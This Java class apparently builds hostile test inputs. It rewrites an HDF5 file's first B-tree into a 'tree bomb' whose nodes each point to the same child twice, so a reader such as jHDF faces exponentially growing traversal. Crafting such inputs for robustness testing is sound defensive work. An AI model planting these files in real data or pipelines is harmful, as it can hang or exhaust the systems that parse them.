package dev.gatun.weights;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Replaces the first B-tree of an HDF5 file by one that is small on disk and endless to walk. */
final class TreeBomb {
    /** A header, keys and children, and as much again, since jHDF reads a header of more than that. */
    private static final int NODE_BYTES = 2 * (24 + 5 * 8);

    private TreeBomb() {}

    /** The file with nodes of {@code levels} levels behind it, each twice the child of the one above. */
    static byte[] plant(byte[] whole, int levels) {
        byte[] signature = "TREE".getBytes(StandardCharsets.US_ASCII);
        int tree = 0;
        while (!Arrays.equals(Arrays.copyOfRange(whole, tree, tree + 4), signature)) {
            tree++;
        }
        int start = (whole.length + 7) / 8 * 8;
        byte[] bomb = Arrays.copyOf(whole, start + levels * NODE_BYTES);
        ByteBuffer bytes = ByteBuffer.wrap(bomb).order(ByteOrder.LITTLE_ENDIAN);
        node(bytes, tree, levels, start);
        for (int level = levels - 1; level >= 0; level--) {
            int at = start + (levels - 1 - level) * NODE_BYTES;
            // The leaf's children lie where there is no symbol table, which nothing ever comes to see.
            node(bytes, at, level, level == 0 ? at : at + NODE_BYTES);
        }
        return bomb;
    }

    /** Version 1 of the format's B-trees: signature, type 0, level, entries, two siblings, then keys and children in turn. */
    private static void node(ByteBuffer bytes, int at, int level, int child) {
        bytes.position(at);
        bytes.put("TREE".getBytes(StandardCharsets.US_ASCII));
        bytes.put((byte) 0).put((byte) level).putShort((short) 2);
        bytes.putLong(-1).putLong(-1);
        bytes.putLong(0).putLong(child).putLong(0).putLong(child).putLong(0);
    }
}
